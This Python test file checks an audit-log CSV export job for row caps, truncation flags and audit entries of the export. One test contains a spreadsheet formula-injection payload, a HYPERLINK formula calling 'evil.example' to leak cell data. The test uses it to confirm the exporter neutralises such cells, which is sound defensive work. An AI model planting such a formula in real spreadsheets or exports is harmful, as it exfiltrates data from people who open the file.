"""The audit CSV export as a background job (audit/exports.py) on the in-memory twin."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from chalicelib.audit import exports
from chalicelib.audit import store as audit_repo
from chalicelib.core import jobs
from chalicelib.core.audit import Actor, AuditAction
from chalicelib.core.context import Caller, Ctx
from chalicelib.core.errors import AppError
from chalicelib.core.store.memory import MemoryStore
from factories import audit, ctx_for

DAY = date(2026, 2, 10)


def _run(store: MemoryStore, start: date, end: date) -> tuple[jobs.Job, list[list[str]]]:
    admin = ctx_for(store, "admin", user_id="admin-1")
    results = jobs.MemoryResults()
    job, _ = jobs.start(admin, exports.KIND, {"from": start.isoformat(), "to": end.isoformat()},
                        dispatch=lambda _: None)
    done = jobs.run_job(store, job.id, results)
    assert done is not None and done.status is jobs.JobStatus.SUCCEEDED, done
    data, content_type, name = results.files[done.result_key or ""]
    assert content_type.startswith("text/csv") and name == f"audit-{start}-to-{end}.csv"
    return done, list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_GIVEN_a_failed_sign_in_typed_as_a_formula_WHEN_exported_THEN_the_cell_is_neutralised() -> None:
    """GIVEN the audit entry of a failed sign-in whose "e-mail" is a spreadsheet formula WHEN the admin
    exports that day THEN the CSV holds it with a leading quote, so no spreadsheet runs it."""
    store = MemoryStore()
    typed = '=hyperlink("https://evil.example/?leak="&a1,"open me")'
    client = Ctx(store=store, caller=Caller(Actor(id="anonymous", channel="web")),
                 clock=lambda: datetime(2026, 2, 10, 8, 0, tzinfo=UTC))
    client.audit_event("session", typed, activity="sign_in_failed")
    done, rows = _run(store, DAY, DAY)
    assert rows[0] == list(exports.COLUMNS)
    (row,) = [r for r in rows[1:] if r[2] == "session"]
    assert row[3] == "'" + typed
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    assert done.rows_done == 1 and not done.truncated


def test_GIVEN_more_rows_than_the_cap_WHEN_exported_THEN_cut_at_the_cap_and_flagged(
        monkeypatch: pytest.MonkeyPatch) -> None:
    store = MemoryStore()
    for n in range(7):
        store.create(audit(f"m{n}", at=datetime(2026, 2, 10, 12, n, tzinfo=UTC)))
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 5)
    monkeypatch.setattr(exports, "PAGE", 2)
    done, rows = _run(store, DAY, DAY)
    assert len(rows) == 6 and done.rows_done == 5 and done.truncated
    export_entry = audit_repo.by_entity(store, "audit", "EXPORT", 5, None).items[0]
    assert export_entry.action is AuditAction.BULK_READ
    assert export_entry.extra["row_count"] == 5 and export_entry.extra["truncated"] is True
    assert export_entry.extra["job_id"] == done.id and export_entry.actor_id == "admin-1"
    assert export_entry.channel == "job"


def test_GIVEN_exactly_the_cap_WHEN_exported_THEN_not_truncated(monkeypatch: pytest.MonkeyPatch) -> None:
    store = MemoryStore()
    for n in range(4):
        store.create(audit(f"m{n}", at=datetime(2026, 2, 10, 12, n, tzinfo=UTC)))
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 4)
    done, rows = _run(store, DAY, date(2026, 2, 12))
    assert done.rows_done == 4 and not done.truncated and len(rows) == 5


def test_GIVEN_a_bad_range_WHEN_requested_THEN_400_naming_to() -> None:
    admin = ctx_for(MemoryStore(), "admin")
    for start, end in ((date(2026, 2, 2), date(2026, 2, 1)), (date(2025, 1, 1), date(2026, 1, 2))):
        with pytest.raises(AppError) as err:
            exports.start(admin, start, end)
        assert err.value.status == 400 and err.value.fields[0].name == "to"
